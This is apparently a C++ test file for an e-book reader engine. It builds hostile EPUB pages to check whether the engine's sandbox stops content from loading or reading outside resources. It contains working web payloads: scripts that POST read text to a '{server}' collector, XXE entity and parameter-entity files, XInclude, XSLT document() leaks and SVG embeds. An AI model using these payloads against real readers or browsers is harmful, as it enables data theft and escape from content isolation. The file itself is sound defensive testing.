#include "tests/engine/HostilePages.hpp"

namespace pagora::test {

namespace {

constexpr auto helpers = R"js(
const server = '{server}';
const targets = [{targets}];
const tell = (path, text) => fetch(server + path, { method: 'POST', mode: 'no-cors', body: String(text || '') });
const reached = (i, how) => tell((i ? 'reached/outside/' : 'reached/own/') + how, targets[i]);
const late = (done) => setTimeout(done, 1500);
const few = (count) => targets.slice(0, count);
const attempt = (make, how, on = targets) => Promise.all(on.map((target, i) => new Promise((done) => {
    const element = make(target, i);
    element.addEventListener('load', () => { if (how) reached(i, how); done(); });
    element.addEventListener('error', done);
    late(done);
    if (!element.parentNode)
        document.body.append(element);
})));
const element = (name, attributes) => {
    const made = document.createElement(name);
    for (const [name, value] of Object.entries(attributes))
        made.setAttribute(name, value);
    return made;
};
const drawn = (name, attributes) => {
    const svg = 'http://www.w3.org/2000/svg';
    const made = document.createElementNS(svg, name);
    for (const [name, value] of Object.entries(attributes))
        made.setAttribute(name, value);
    const around = document.createElementNS(svg, 'svg');
    around.append(made);
    document.body.append(around);
    return made;
};
const each = (act, on = targets) => Promise.all(on.map(async (target, i) => {
    try { await Promise.race([act(target, i), new Promise(late)]); } catch (error) { }
}));
let attack = async () => {};
addEventListener('load', async () => {
    try { await attack(); } catch (error) { await tell('error', error); }
    tell('over');
});
)js";

std::string script(const std::string& text)
{
    return "<script>//<![CDATA[\n" + text + "\n//]]></script>";
}

const std::vector<HostilePage> reading = {
    { "Images", script(R"js(
attack = async () => {
    await attempt((target) => element('img', { src: target + 'canary.svg' }), 'img');
    await attempt((target) => element('img', { srcset: target + 'canary.svg 2x' }), 'srcset');
    await attempt((target) => element('input', { type: 'image', src: target + 'canary.svg' }), 'input');
    await attempt((target) => drawn('image', { href: target + 'canary.svg' }), 'image');
    await each(async (target, i) => {
        const box = element('div', { style: 'position:absolute;content:url("' + target + 'canary.svg")' });
        document.body.append(box);
        const picture = new Image();
        await new Promise((done) => { picture.onload = picture.onerror = done; picture.src = target + 'canary.svg'; });
        if (box.offsetWidth === 77)
            reached(i, 'content');
    });
};)js"),
        true },
    { "Canvases", script(R"js(
const see = (i, how, picture) => {
    const canvas = document.createElement('canvas');
    const context = canvas.getContext('2d');
    context.drawImage(picture, 0, 0);
    if (context.getImageData(0, 0, 1, 1).data[3])
        reached(i, how);
};
attack = async () => {
    for (const crossOrigin of [null, 'anonymous']) {
        await each((target, i) => new Promise((done, fail) => {
            const picture = new Image();
            picture.crossOrigin = crossOrigin;
            picture.onerror = fail;
            picture.onload = async () => {
                try { see(i, 'canvas', picture); } catch (error) { }
                try { see(i, 'bitmap', await createImageBitmap(picture)); } catch (error) { }
                done();
            };
            picture.src = target + 'canary.svg';
        }));
    }
};)js") },
    { "Scripts", script(R"js(
attack = async () => {
    await attempt((target) => element('script', { src: target + 'canary.js' }));
    await attempt((target) => element('script', { type: 'module', src: target + 'canary.js' }));
    await attempt((target) => drawn('script', { href: target + 'canary.js' }));
    await each((target) => import(target + 'canary.js'));
    await each((target) => CSS.paintWorklet.addModule(target + 'canary.js'));
    await each((target) => new OfflineAudioContext(1, 9, 9000).audioWorklet.addModule(target + 'canary.js'));
};)js"),
        true },
    { "Workers", script(R"js(
const from = (worker, message) => new Promise((done) => {
    worker.onmessage = worker.onerror = done;
    worker.postMessage(message);
});
attack = async () => {
    await each((target) => from(new Worker(target + 'canary.js'), ''));
    await each((target) => from(new Worker(target + 'canary.js', { type: 'module' }), ''));
    await each((target) => { const shared = new SharedWorker(target + 'canary.js'); return from(shared.port, ''); });
    const text = 'onmessage = async (event) => {' +
        'try { importScripts(event.data + "canary.js"); } catch (error) { }' +
        'try { await import(event.data + "canary.js"); } catch (error) { }' +
        'try { const text = await (await fetch(event.data + "canary.txt")).text();' +
        '    await fetch("{server}text", { method: "POST", mode: "no-cors", body: text }); } catch (error) { }' +
        'postMessage(""); }';
    for (const url of [URL.createObjectURL(new Blob([text], { type: 'text/javascript' })),
             'data:text/javascript,' + encodeURIComponent(text), 'worker.js'])
        await each((target) => from(new Worker(url), target));
};)js"),
        false,
        { { "worker.js",
            "importScripts('{server}worker'); onmessage = (event) => {"
            "try { importScripts(event.data + 'canary.js'); } catch (error) { } postMessage(''); }" } } },
    { "Styles", script(R"js(
attack = async () => {
    await attempt((target) => element('link', { rel: 'stylesheet', href: target + 'canary.css' }));
    await attempt((target) => element('link', { rel: 'alternate stylesheet', title: 'a', href: target + 'canary.css' }));
    await each(async (target) => {
        const style = element('style', {});
        style.textContent = '@import url("' + target + 'canary.css"); @import "' + target + 'canary.css" layer(x);';
        document.head.append(style);
        await new Promise((done) => { style.onload = style.onerror = done; });
    });
    await each(async (target, i) => {
        const sheet = document.styleSheets[document.styleSheets.length - 1 - i];
        await tell('text', Array.from(sheet.cssRules[0].styleSheet.cssRules, (rule) => rule.cssText).join());
    });
};)js"),
        true },
    { "Fonts", script(R"js(
attack = () => each(async (target, i) => {
    const font = new FontFace('Canary' + i, 'url("' + target + 'canary.ttf")');
    await font.load();
    reached(i, 'font');
});)js") },
    { "Frames", script(R"js(
const look = (i, how, element) => {
    const text = element.contentDocument && element.contentDocument.documentElement.textContent;
    if (text)
        tell('text', text);
};
attack = async () => {
    const ways = [
        attempt((target) => element('iframe', { src: target + 'canary.html' })),
        attempt((target) => element('iframe', { src: target }), '', few(6)),
        attempt((target) => element('iframe', { sandbox: 'allow-scripts', src: target + 'canary.html' }), '', few(6)),
        attempt((target) => element('iframe', { src: 'view-source:' + target + 'canary.html' }), '', few(6)),
        attempt((target) => element('object', { data: target + 'canary.html', type: 'text/html' }), '', few(6)),
        attempt((target) => element('embed', { src: target + 'canary.html', type: 'text/html' }), '', few(6)),
        attempt((target) => element('object', { data: target + 'canary.svg' }), '', few(6)),
    ];
    for (const inside of [(url) => ['srcdoc', '<iframe src="' + url + '"></iframe>'],
             (url) => ['src', 'data:text/html,<iframe src="' + url + '"></iframe>'],
             (url) => ['src', URL.createObjectURL(new Blob(['<iframe src="' + url + '"></iframe>'],
                 { type: 'text/html' }))],
             (url) => ['src', 'javascript:\'<iframe src="' + url + '"></iframe>\'']])
        ways.push(attempt((target) => element('iframe', Object.fromEntries([inside(target + 'canary.html')])), '', few(4)));
    await Promise.all(ways);
    for (const [i, frame] of document.querySelectorAll('iframe,object,embed').entries())
        try { look(i, 'frame', frame); } catch (error) { }
};)js"),
        true },
    { "Sounds", script(R"js(
const sees = (name) => (target, i) => new Promise((done) => {
    const media = element(name, { preload: 'metadata', src: target + 'canary.wav' });
    media.addEventListener('loadedmetadata', () => { reached(i, name); media.src = ''; done(); });
    media.addEventListener('error', done);
    document.body.append(media);
});
attack = async () => {
    await each(sees('audio'), few(9));
    await each((target, i) => new Promise((done) => {
        const media = element('video', {});
        const track = element('track', { kind: 'captions', default: '', src: target + 'canary.vtt' });
        track.onload = () => { tell('text', track.track.cues[0].text); done(); };
        track.onerror = done;
        media.append(track);
        document.body.append(media);
        track.track.mode = 'showing';
    }), few(6));
};)js"),
        true },
    { "Requests", script(R"js(
const ask = (open) => new Promise((done) => {
    const request = new XMLHttpRequest();
    request.onloadend = () => { if (request.responseText) tell('text', request.responseText); done(); };
    open(request);
});
attack = async () => {
    for (const mode of ['cors', 'no-cors', 'same-origin', 'navigate'])
        await each(async (target) => tell('text', await (await fetch(target + 'canary.txt', { mode })).text()));
    await each((target) => ask((request) => { request.open('GET', target + 'canary.txt'); request.send(); }));
    await each((target) => ask((request) => { request.open('GET', target + 'canary.txt', false); request.send(); }));
    await each(async (target, i) => {
        const events = new EventSource(target + 'canary.txt');
        await new Promise((done) => { events.onopen = () => { reached(i, 'events'); done(); }; events.onerror = done; });
        events.close();
    });
    await each(async (target, i) => {
        for (const as of ['fetch', 'script', 'style', 'image', 'font', 'track'])
            document.head.append(element('link', { rel: 'preload', as, href: target + 'canary.txt' }));
        for (const rel of ['prefetch', 'modulepreload', 'icon', 'manifest', 'prerender', 'import'])
            document.head.append(element('link', { rel, href: target + 'canary.html' }));
    });
    await each(async (target, i) => {
        const asked = performance.getEntriesByName(new URL(target + 'canary.txt', location).href);
        if (asked.some((entry) => entry.decodedBodySize || entry.transferSize || entry.encodedBodySize))
            reached(i, 'timing');
    });
};)js") },
    { "Drawings", script(R"js(
attack = async () => {
    await attempt((target, i) => element('iframe', { src: 'drawing' + i + '.svg' }));
    await attempt((target, i) => element('object', { data: 'drawing' + i + '.svg' }), '', few(6));
};)js"),
        true, { { "drawing{n}.svg", R"xml(<?xml-stylesheet type="text/css" href="{target}canary.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90">
<style>@import url('{target}canary.css');</style>
<defs><filter id="f"><feImage href="{target}canary.svg#c"/></filter></defs>
<use href="{target}canary.svg#c"/><use xlink:href="{target}canary.svg#c"/>
<image width="9" height="9" href="{target}canary.svg"/><rect width="9" height="9" filter="url(#f)"/>
<rect width="9" height="9" fill="url('{target}canary.svg#c')" mask="url('{target}canary.svg#c')"/>
<foreignObject width="90" height="90"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{target}canary.html"/>
<object xmlns="http://www.w3.org/1999/xhtml" data="{target}canary.html"/></foreignObject>
<script href="{target}canary.js"/><script xlink:href="{target}canary.js"/>
<script>fetch('{server}text', { method: 'POST', mode: 'no-cors', body: document.documentElement.textContent })</script>
</svg>)xml" } } },
    { "Transformations", script(R"js(
attack = async () => {
    await attempt((target, i) => element('iframe', { src: 'sheet' + i + '.xml' }));
    await attempt((target, i) => element('iframe', { src: 'document' + i + '.xml' }));
    await each(async (target, i) => {
        const sheet = new DOMParser().parseFromString('<xsl:stylesheet version="1.0" ' +
            'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="' + target + 'canary.xsl"/>' +
            '<xsl:template match="/"><p><xsl:value-of select="document(\'' + target + 'canary.xml\')"/></p>' +
            '</xsl:template></xsl:stylesheet>', 'text/xml');
        const processor = new XSLTProcessor();
        processor.importStylesheet(sheet);
        tell('text', processor.transformToFragment(document, document).textContent);
    });
};)js"),
        false,
        { { "sheet{n}.xml", "<?xml-stylesheet type='text/xsl' href='{target}canary.xsl'?><x/>" },
            { "document{n}.xml", "<?xml-stylesheet type='text/xsl' href='document{n}.xsl'?><x/>" },
            { "document{n}.xsl",
                "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template "
                "match='/'><html><body><img><xsl:attribute name='src'>{server}text/<xsl:value-of "
                "select=\"document('{target}canary.xml')\"/></xsl:attribute></img></body></html></xsl:template>"
                "</xsl:stylesheet>" } } },
    { "Entities", script(R"js(
attack = async () => {
    for (const kind of ['entity', 'parameter', 'subset', 'include'])
        await attempt((target, i) => element('iframe', { src: kind + i + '.xhtml' }), '', few(8));
    await each(async (target) => tell('text', new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY e SYSTEM "' +
        target + 'canary.txt">]><x>&e;</x>', 'text/xml').documentElement.textContent));
};)js"),
        false,
        [] {
            const std::string page = "<html xmlns='http://www.w3.org/1999/xhtml'><body><p id='p'>&e;</p><script>"
                                     "fetch('{server}text', { method: 'POST', mode: 'no-cors', "
                                     "body: document.body.textContent })</script></body></html>";
            return std::vector<std::pair<std::string, std::string>> {
                { "entity{n}.xhtml", "<!DOCTYPE html [<!ENTITY e SYSTEM '{target}canary.txt'>]>" + page },
                { "parameter{n}.xhtml",
                    "<!DOCTYPE html [<!ENTITY % p SYSTEM '{target}canary.dtd'> %p; <!ENTITY e 'none'>]>" + page },
                { "subset{n}.xhtml", "<!DOCTYPE html SYSTEM '{target}canary.dtd'>" + page },
                { "include{n}.xhtml",
                    "<html xmlns='http://www.w3.org/1999/xhtml'><body><x:include "
                    "xmlns:x='http://www.w3.org/2001/XInclude' parse='text' href='{target}canary.txt'/><script>"
                    "fetch('{server}text', { method: 'POST', mode: 'no-cors', body: document.body.textContent })"
                    "</script></body></html>" },
            };
        }() },
};

const std::vector<HostilePage> going = {
    { "Addresses", script(R"js(
attack = () => each(async (target) => {
    location.href = target + 'canary.html';
    location.replace(target + 'canary.html');
    location.assign(target);
});)js") },
    { "Links", script(R"js(
attack = () => each(async (target) => {
    for (const attributes of [{}, { target: '_blank' }, { target: '_top' }, { download: 'a.txt' },
             { rel: 'opener', target: 'x' }, { ping: target + 'canary.html' }]) {
        const link = element('a', { href: target + 'canary.html', ...attributes });
        document.body.append(link);
        link.click();
    }
    drawn('a', { href: target + 'canary.html' }).dispatchEvent(new MouseEvent('click'));
    const opened = open(target + 'canary.html');
    if (opened)
        reached(1, 'window');
});)js") },
    { "Forms", script(R"js(
attack = () => each(async (target) => {
    for (const method of ['get', 'post', 'dialog']) {
        const form = element('form', { action: target + 'canary.html', method });
        document.body.append(form);
        form.submit();
    }
});)js") },
    { "Refreshes", script(R"js(
attack = () => each(async (target) => {
    document.head.append(element('meta', { 'http-equiv': 'refresh', content: '0;url=' + target + 'canary.html' }));
    await new Promise((done) => setTimeout(() => setTimeout(done)));
});)js") },
    { "Histories", script(R"js(
attack = () => each(async (target) => {
    try { history.pushState(null, '', target + 'canary.html'); } catch (error) { }
    try { history.replaceState(null, '', target + 'canary.html'); } catch (error) { }
    try { navigation.navigate(target + 'canary.html'); } catch (error) { }
    document.head.append(element('base', { href: target }));
    const script = element('script', { src: 'canary.js' });
    await new Promise((done) => { script.onload = script.onerror = done; document.body.append(script); });
});)js") },
};

std::string filled(std::string text, const std::string& server)
{
    return replaced(std::move(text), "{server}", server);
}

}

const std::vector<HostilePage>& pagesThatRead()
{
    return reading;
}

const std::vector<HostilePage>& pagesThatGo()
{
    return going;
}

EpubBuilder bookOf(const HostilePage& page, const std::string& server, const std::vector<std::string>& targets)
{
    EpubBuilder book;
    std::string list;
    for (std::size_t i = 0; i < targets.size(); ++i) {
        list += "'" + replaced(targets[i], "\\", "\\\\") + "', ";
        for (const auto& [name, text] : page.files) {
            const auto number = std::to_string(i);
            if (name.find("{n}") != std::string::npos)
                book.member("OEBPS/" + replaced(name, "{n}", number),
                    filled(replaced(replaced(text, "{n}", number), "{target}", targets[i]), server));
        }
    }
    for (const auto& [name, text] : page.files) {
        if (name.find("{n}") == std::string::npos)
            book.member("OEBPS/" + name, filled(text, server));
    }
    for (const auto& [name, text] : canaries("own", server))
        book.member("OEBPS/" + name, text);
    return book.title(page.name)
        .identifier("hostile-" + page.name)
        .chapters(1)
        .member("OEBPS/chapter1.xhtml",
            "<?xml version=\"1.0\" encoding=\"utf-8\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><head>"
            "<title>Hostile</title>"
                + script(filled(replaced(helpers, "{targets}", list), server)) + "</head><body><p id=\"text\">Text</p>"
                + filled(page.body, server) + "</body></html>");
}

}
